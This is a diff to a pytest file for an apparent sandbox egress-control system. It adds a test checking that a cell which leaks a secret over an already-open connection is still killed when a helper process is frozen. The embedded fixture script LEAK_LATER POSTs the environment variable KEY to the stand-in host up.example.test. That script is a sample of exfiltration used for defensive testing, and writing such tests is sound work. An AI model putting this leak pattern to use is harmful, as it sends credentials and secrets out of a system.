@@ -9,7 +9,7 @@ from pathlib import Path
 import pytest
 
 import leftovers
-from egress_lab import CURL, await_event
+from egress_lab import CURL, await_event, helpers_of
 from operators import is_alive, only_root, only_user, wait_until
 from test_egress_secrets import UP, canary, give
 
@@ -191,6 +191,39 @@ def test_it_kills(online):
     ended, = [c for c in online.operator.cells("-a") if c["cell"] == cell]
     assert ended["cause"] == "it sent a secret to where that may not go, and was killed"
     assert online.refusal(type="http")["why"] == "exfiltration"
+
+
+# On a connection that is there already: what is sent on it can be sent before it is read.
+LEAK_LATER = """
+import http.client, os, ssl, time
+up = http.client.HTTPSConnection("up.example.test", context=ssl.create_default_context())
+up.request("GET", "/")
+up.getresponse().read()
+open("/tmp/ready", "w")
+while not os.path.exists("/tmp/go"):
+    time.sleep(0.001)
+up.request("POST", "/echo", body=os.environ["KEY"])
+open("/tmp/sent", "w")
+time.sleep(1000)
+"""
+
+
+@only_root
+@pytest.mark.parametrize("policy", [POLICY.format("kill"), POLICY.format("refuse") + "tripwires: {exfiltration: kill}\n",
+                                    POLICY.format("refuse") + "budgets: [{per: cell, requests: 1, then: kill}]\n"])
+def test_it_kills_who_was_frozen_meanwhile(online, policy):
+    """Else whoever is frozen in that moment, by an operator or by what is less bad, is thawed and goes on."""
+    operator = online.operator
+    give(online, canary())
+    cell = online.start(online.policy(policy), "/usr/bin/python3", "-c", LEAK_LATER, options=["-s", "KEY"])
+    wait_until(lambda: operator.cloister("exec", cell, "--", "test", "-e", "/tmp/ready").status == 0, "it is connected")
+    courier = helpers_of(operator, cell)["courier"]
+    os.kill(courier, signal.SIGSTOP)
+    operator.cloister("exec", cell, "--", "touch", "/tmp/go").ok()
+    wait_until(lambda: operator.cloister("exec", cell, "--", "test", "-e", "/tmp/sent").status == 0, "it is sent")
+    operator.cloister("freeze", cell).ok()
+    os.kill(courier, signal.SIGCONT)
+    assert operator.cloister("wait", cell, seconds=20).status == 137
 
 
 @only_root
